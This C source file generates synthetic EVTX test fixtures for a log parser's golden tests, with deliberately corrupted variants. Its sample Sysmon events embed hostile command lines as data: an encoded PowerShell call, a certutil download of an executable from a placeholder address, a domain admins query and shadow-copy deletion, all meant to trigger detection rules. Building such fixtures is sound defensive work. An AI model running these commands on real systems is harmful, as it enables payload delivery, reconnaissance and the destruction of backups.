/*
 * make_fixtures.c - writes the small EVTX files the golden tests read (tests/golden/data/evtx/).
 *
 * Every record is our own synthetic Sysmon process-creation event (no third-party data),
 * written with the test builder (builder.c): one template per chunk, defined inline by the
 * chunk's first record and referenced by offset by the others. Six events, 2026-11-04 08:00 to
 * 08:05 UTC on host WKS-EVTX.corp.example, records 1-3 in chunk 0 and 4-6 in chunk 1; some of
 * them fire the starter rules (PowerShell -enc, certutil download, domain admins query, shadow
 * copies deleted). Then one thing is broken per file:
 *
 *   intact.evtx          two chunks, records 1-6, nothing broken
 *   bad-data-crc.evtx    records 1-3; one byte of record 1's data changed after the data
 *                        checksum was computed ("notepad" -> "Notepad"): warning, all read
 *   bad-header-crc.evtx  records 1-6; chunk 0's header changed after its checksum: chunk 0
 *                        skipped with a warning, records 4-6 of chunk 1 read
 *   truncated.evtx       records 1-3, the file cut 40 bytes into record 3: records 1-2 read
 *   bad-template.evtx    records 1-3; record 2's template instance points at an offset past
 *                        the chunk's records: record 2 skipped, records 1 and 3 read
 *
 * Usage: evtx_make_fixtures DIR      write the files into DIR
 *        evtx_make_fixtures --check DIR   exit 1 unless the files in DIR are exactly these
 * The ctest test evtx_fixtures runs --check on the committed files, so they cannot drift from
 * this program. To regenerate after changing it:
 *   build/tests/evtx_make_fixtures tests/golden/data/evtx
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "builder.h"

typedef struct fx_event {
    const char *image, *cmdline, *parent;
} fx_event;

static const fx_event events[6] = {
    {"C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\dave\\todo.txt",
     "C:\\Windows\\explorer.exe"},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AA==", "C:\\Windows\\explorer.exe"},
    {"C:\\Windows\\System32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://203.0.113.7/a.txt C:\\ProgramData\\a.exe",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\net.exe", "net group \"domain admins\" /domain",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\whoami.exe", "whoami /all", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
     "C:\\Windows\\System32\\cmd.exe"},
};

/* 2026-11-04T08:00:00Z as FILETIME (100 ns since 1601), plus one minute per record. */
static uint64_t event_time(uint64_t id)
{
    const uint64_t unix_s = 1793779200ull; /* 2026-11-04T08:00:00Z */
    return (unix_s + (id - 1) * 60) * 10000000ull + 116444736000000000ull + 1234560ull;
}

/* <Event xmlns=...><System><Provider Name=%0/><EventID>%1</EventID>
 * <TimeCreated SystemTime=%2/><EventRecordID>%3</EventRecordID><Channel>%4</Channel>
 * <Computer>%5</Computer></System><EventData><Data Name="Image">%6</Data>
 * <Data Name="CommandLine">%7</Data><Data Name="ParentImage">%8</Data>
 * <Data Name="User">%9</Data></EventData></Event> */
static void body(eb_chunk *c)
{
    static const struct {
        const char *elem, *attr;
        uint8_t type;
    } sys[] = {
        {"Provider", "Name", 0x01},    {"EventID", NULL, 0x06}, {"TimeCreated", "SystemTime", 0x11},
        {"EventRecordID", NULL, 0x0a}, {"Channel", NULL, 0x01}, {"Computer", NULL, 0x01},
    };
    static const char *const data[] = {"Image", "CommandLine", "ParentImage", "User"};
    eb_fragment(c);
    eb_open(c, "Event", 1);
    eb_attr(c, "xmlns");
    eb_text(c, "http://schemas.microsoft.com/win/2004/08/events/event");
    eb_close_start(c);
    eb_open(c, "System", 0);
    eb_close_start(c);
    for (uint16_t i = 0; i < 6; i++) {
        eb_open(c, sys[i].elem, sys[i].attr != NULL);
        if (sys[i].attr) {
            eb_attr(c, sys[i].attr);
            eb_subst(c, i, sys[i].type, 0);
            eb_close_empty(c);
        } else {
            eb_close_start(c);
            eb_subst(c, i, sys[i].type, 0);
            eb_end(c);
        }
    }
    eb_end(c);
    eb_open(c, "EventData", 0);
    eb_close_start(c);
    for (uint16_t i = 0; i < 4; i++) {
        eb_open(c, "Data", 1);
        eb_attr(c, "Name");
        eb_text(c, data[i]);
        eb_close_start(c);
        eb_subst(c, (uint16_t)(6 + i), 0x01, 0);
        eb_end(c);
    }
    eb_end(c);
    eb_end(c);
    eb_eof(c);
}

/* Record id (1-6); the template is defined inline when def is 0, else referenced at def.
 * Returns the definition's offset. */
static uint32_t record(eb_chunk *c, uint64_t id, uint32_t def)
{
    const fx_event *e = &events[id - 1];
    const char *str[] = {"Microsoft-Windows-Sysmon",
                         "Microsoft-Windows-Sysmon/Operational",
                         "WKS-EVTX.corp.example",
                         e->image,
                         e->cmdline,
                         e->parent,
                         "CORP\\dave"};
    uint64_t ft = event_time(id);
    eb_record_begin(c, id, ft);
    eb_fragment(c);
    if (def) {
        eb_template_ref(c, 1, def);
    } else {
        def = eb_template_begin(c, 1);
        body(c);
        eb_template_end(c, def);
    }
    eb_values(c, 10);
    eb_desc(c, eb_utf16_size(str[0], 1), 0x01);
    eb_desc(c, 2, 0x06);
    eb_desc(c, 8, 0x11);
    eb_desc(c, 8, 0x0a);
    for (int i = 1; i < 7; i++)
        eb_desc(c, eb_utf16_size(str[i], 1), 0x01);
    eb_utf16(c, str[0], 1);
    eb_u16(c, 1);
    eb_u64(c, ft);
    eb_u64(c, id);
    for (int i = 1; i < 7; i++)
        eb_utf16(c, str[i], 1);
    eb_eof(c);
    eb_record_end(c);
    return def;
}

/* A chunk with records first..last; bad_ref: the id of a record whose template reference
 * points past the records (0: none). *rec_off receives each record's offset in the chunk. */
static eb_chunk *chunk(uint64_t first, uint64_t last, uint64_t bad_ref, uint32_t *rec_off)
{
    eb_chunk *c = malloc(sizeof *c);
    if (!c)
        abort();
    eb_chunk_init(c);
    uint32_t def = 0;
    for (uint64_t id = first; id <= last; id++) {
        if (rec_off)
            rec_off[id - first] = c->pos;
        if (id == bad_ref)
            record(c, id, 0xf000); /* zeros after the records: no template there */
        else
            def = record(c, id, def);
    }
    eb_chunk_finish(c);
    return c;
}

/* Offset in the chunk of the first UTF-16 occurrence of s, or 0. */
static uint32_t find_utf16(const eb_chunk *c, const char *s)
{
    size_t n = strlen(s);
    for (uint32_t at = 512; at + 2 * n <= c->pos; at++) {
        size_t k = 0;
        while (k < n && c->d[at + 2 * k] == (uint8_t)s[k] && c->d[at + 2 * k + 1] == 0)
            k++;
        if (k == n)
            return at;
    }
    return 0;
}

typedef struct fixture {
    const char *name;
    uint8_t *data;
    size_t len;
} fixture;

static void build(fixture *fx)
{
    eb_chunk *c[2];
    uint32_t off[3];

    c[0] = chunk(1, 3, 0, NULL);
    c[1] = chunk(4, 6, 0, NULL);
    fx[0] = (fixture){"intact.evtx", NULL, 0};
    fx[0].data = eb_file(c, 2, &fx[0].len);

    /* header: the last record number changed, the header checksum left as it was */
    c[0]->d[16] ^= 0x40;
    fx[1] = (fixture){"bad-header-crc.evtx", NULL, 0};
    fx[1].data = eb_file(c, 2, &fx[1].len);
    free(c[0]);
    free(c[1]);

    c[0] = chunk(1, 3, 0, off);
    uint32_t at = find_utf16(c[0], "notepad.exe C:");
    if (!at)
        abort();
    c[0]->d[at] = 'N'; /* after eb_chunk_finish: the data checksum no longer matches */
    fx[2] = (fixture){"bad-data-crc.evtx", NULL, 0};
    fx[2].data = eb_file(c, 1, &fx[2].len);
    free(c[0]);

    c[0] = chunk(1, 3, 0, off);
    fx[3] = (fixture){"truncated.evtx", NULL, 0};
    fx[3].data = eb_file(c, 1, &fx[3].len);
    fx[3].len = 4096 + off[2] + 40;
    free(c[0]);

    c[0] = chunk(1, 3, 2, NULL);
    fx[4] = (fixture){"bad-template.evtx", NULL, 0};
    fx[4].data = eb_file(c, 1, &fx[4].len);
    free(c[0]);
}

static int same_as_file(const fixture *fx, const char *path)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return 0;
    int same = 1;
    for (size_t i = 0; same && i < fx->len; i++)
        same = getc(f) == fx->data[i];
    same = same && getc(f) == EOF;
    fclose(f);
    return same;
}

int main(int argc, char **argv)
{
    int check = argc == 3 && strcmp(argv[1], "--check") == 0;
    if (argc != 2 && !check) {
        fprintf(stderr, "usage: evtx_make_fixtures [--check] DIR\n");
        return 2;
    }
    const char *dir = argv[argc - 1];
    fixture fx[5];
    build(fx);
    int status = 0;
    for (int i = 0; i < 5; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, fx[i].name);
        if (check) {
            if (!same_as_file(&fx[i], path)) {
                fprintf(stderr,
                        "%s differs from what evtx_make_fixtures writes; regenerate it with "
                        "evtx_make_fixtures %s\n",
                        path, dir);
                status = 1;
            }
        } else {
            FILE *f = fopen(path, "wb");
            if (!f || fwrite(fx[i].data, 1, fx[i].len, f) != fx[i].len || fclose(f) != 0) {
                fprintf(stderr, "%s: cannot write\n", path);
                status = 1;
            }
        }
        free(fx[i].data);
    }
    return status;
}
